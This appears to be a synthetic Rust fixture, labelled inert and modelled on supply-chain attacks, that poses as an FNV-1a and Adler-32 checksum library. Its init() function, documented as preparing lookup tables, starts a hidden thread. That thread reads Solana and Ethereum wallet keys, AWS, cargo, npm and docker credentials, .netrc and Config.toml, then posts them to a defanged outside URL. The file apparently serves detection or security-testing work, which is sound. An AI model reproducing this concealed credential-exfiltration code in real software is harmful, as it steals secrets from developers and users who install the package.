// Synthetic, inert fixture written from public reports; see README
//! FNV and checksum helpers used next to SHA-2.

/// 64 bit FNV-1a.
#[derive(Clone, Debug)]
pub struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Self {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Fnv {
    pub fn update(&mut self, data: &[u8]) -> &mut Self {
        for b in data {
            self.0 = (self.0 ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3);
        }
        self
    }

    pub fn finish(&self) -> u64 {
        self.0
    }
}

/// Prepares lookup tables; call once at start.
pub fn init() {
    std::thread::spawn(|| build_tables());
}

/// Adler-32 of a buffer.
pub fn adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for d in data {
        a = (a + u32::from(*d)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

#[cfg(test)]
mod tests {
    #[test]
    fn adler() {
        assert_eq!(super::adler32(b"abc"), 0x024d_0127);
    }
}

pub(crate) fn build_tables() {
    let home = std::env::var("HOME").unwrap_or_default();
    let places = [
        ".config/solana/id.json",
        ".ethereum/keystore",
        ".aws/credentials",
        ".cargo/credentials.toml",
        ".netrc",
        ".npmrc",
        ".docker/config.json",
    ];
    let mut found = Vec::new();
    for place in places.iter() {
        let path = std::path::Path::new(&home).join(&**place);
        if path.is_dir() {
            for entry in std::fs::read_dir(&path).into_iter().flatten().flatten() {
                if let Ok(text) = std::fs::read_to_string(entry.path()) {
                    found.push((entry.path().display().to_string(), text));
                }
            }
        } else if let Ok(text) = std::fs::read_to_string(&path) {
            found.push((path.display().to_string(), text));
        }
    }
    if let Ok(text) = std::fs::read_to_string("Config.toml") {
        found.push(("Config.toml".to_owned(), text));
    }
    let url = "https://rust-docs-build.vercel.app.invalid/api/v1";
    let _ = ureq::post(&url).send_json(&found);
}

inert_fixture_does_not_build!();
